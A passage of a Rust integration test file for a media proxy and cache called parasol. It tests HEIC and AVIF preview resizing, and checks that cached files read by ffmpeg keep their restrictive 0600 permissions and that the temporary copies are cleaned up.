            .arg("-o")
            .arg(&out)
            .arg(&png)
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.success(), "heif-enc {name}");
        std::fs::read(out).unwrap()
    };
    let photo = DynamicImage::ImageRgb8(RgbImage::from_pixel(640, 480, Rgb([200, 40, 40])));
    let heic = heif_enc(&photo, "p.heic", &["-q", "60"]);
    let clear = DynamicImage::ImageRgba8(RgbaImage::from_fn(400, 400, |x, _| {
        Rgba([30, 30, 220, if x < 200 { 255 } else { 0 }])
    }));
    let avif = heif_enc(&clear, "c.avif", &["-A", "-q", "60"]);
    let origin = Origin::start("127.0.0.17").await;
    origin.route("/p.heic", Route::ok(heic.clone()));
    origin.route("/c.avif", Route::ok(avif));
    let cache = tempfile::tempdir().unwrap();
    let p = Parasol::start(config(cache.path(), &["127.0.0.17/32"])).await;
    let src = origin.url("/p.heic");
    assert_eq!(body(get(&p.url(&src)).await).await, heic, "the original as it came");
    let (_, img) = decoded(&body(get(&variant_url(&p, &src, "preview")).await).await);
    assert_eq!((img.width(), img.height()), (200, 150));
    assert!(near(img.to_rgba8().get_pixel(100, 75).0, [200, 40, 40]));
    let r = get(&variant_url(&p, &origin.url("/c.avif"), "preview")).await;
    assert_eq!(r.status(), 200);
    let (_, img) = decoded(&body(r).await);
    assert_eq!((img.width(), img.height()), (200, 200));
    let img = img.to_rgba8();
    assert!(near(img.get_pixel(50, 100).0, [30, 30, 220]) && img.get_pixel(50, 100).0[3] > 200);
    assert!(img.get_pixel(150, 100).0[3] < 30, "the transparent half stays transparent");
    p.stop().await;
}

/// Issue 25: an outside program (ffmpeg here) reads the cached file it is given, but the
/// cache's files are never opened to other users for it: run as root, parasol runs the
/// program as `nobody` on a copy of its own, and a blob kept 0600 stays 0600.
#[tokio::test]
#[cfg_attr(not(has_ffmpeg), ignore = "needs ffmpeg: apt-get install ffmpeg")]
async fn a_blob_read_by_an_outside_program_is_never_opened_to_others() {
    use std::os::unix::fs::PermissionsExt;
    let mp4 = ffmpeg_make(
        "-f lavfi -i color=c=red:s=320x240:d=1 -r 5 -c:v libx264 -preset ultrafast",
        "mp4",
    );
    let origin = Origin::start("127.0.0.18").await;
    origin.route("/v.mp4", Route::ok(mp4.clone()));
    let dir = tempfile::tempdir().unwrap();
    // A blob file of its own (one kept in a segment reaches the tool as a temp file).
    let p = Parasol::start(file_each(config(dir.path(), &["127.0.0.18/32"]))).await;
    let url = p.url(&origin.url("/v.mp4"));
    assert!(body(get(&url).await).await == mp4);
    // Kept as a strict umask (systemd's UMask=0077) would have made it.
    let hex = blake3::hash(&mp4).to_hex();
    let blob = dir.path().join("blobs").join(&hex[..2]).join(hex.as_str());
    std::fs::set_permissions(&blob, std::fs::Permissions::from_mode(0o600)).unwrap();
    let r = get(&format!("{url}/static")).await;
    assert_eq!(r.status(), 200, "the poster was taken");
    assert!(image::load_from_memory(&body(r).await).is_ok());
    let mode = std::fs::metadata(&blob).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the blob was not opened to others");
    let left: Vec<_> = std::fs::read_dir(std::env::temp_dir())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("parasol-tool-"))
        .filter_map(|e| std::fs::read_dir(e.path()).ok())
        .flatten()
        .flatten()
        .filter(|f| f.file_name() == "in" && std::fs::read(f.path()).is_ok_and(|b| b == mp4))
        .collect();
    assert!(left.is_empty(), "the copy went with its job");
    p.stop().await;
}
